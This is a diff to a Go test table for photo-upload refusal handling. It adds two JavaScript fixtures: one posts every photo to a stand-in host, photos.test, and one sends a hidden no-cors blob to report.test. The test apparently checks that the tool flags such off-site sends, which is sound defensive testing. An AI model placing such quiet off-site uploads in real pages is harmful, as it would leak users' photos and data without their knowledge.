@@ -64,6 +64,8 @@ func TestRefusedPhotos(t *testing.T) {
 		{"too large, and shown all the same", each, counts, []int{413, 200, 200}, flow.Sender, "the site refused a photo (413"},
 		{"not allowed", each, "", []int{403}, flow.Owner, "the site refused 3 photos (403 Forbidden)"},
 		{"broken", each, "", []int{200, 200, 500}, flow.Site, "the site refused a photo (500 Internal Server Error)"},
+		{"elsewhere", `for (const x of all) { const d = new FormData(); d.append('f', x); await fetch('http://photos.test/', {method: 'POST', body: d}).catch(() => {}) }`, "", []int{200}, flow.Owner, "the page also wanted http://photos.test"},
+		{"a report elsewhere", `fetch('http://report.test/', {method: 'POST', body: new Blob(['x'], {type: 'application/octet-stream'}), mode: 'no-cors'}).catch(() => {})`, "", []int{200}, "", ""},
 		{"no answer", `all.forEach(x => send(x).catch(() => {}))`, "", []int{0}, flow.Site, "the site refused 3 photos (502 Bad Gateway)"},
 		{"broken, and taken all the same", each, counts, []int{200, 200, 500}, "", ""},
 		{"sent again", retry, "", []int{200, 503, 413, 200}, "", ""},
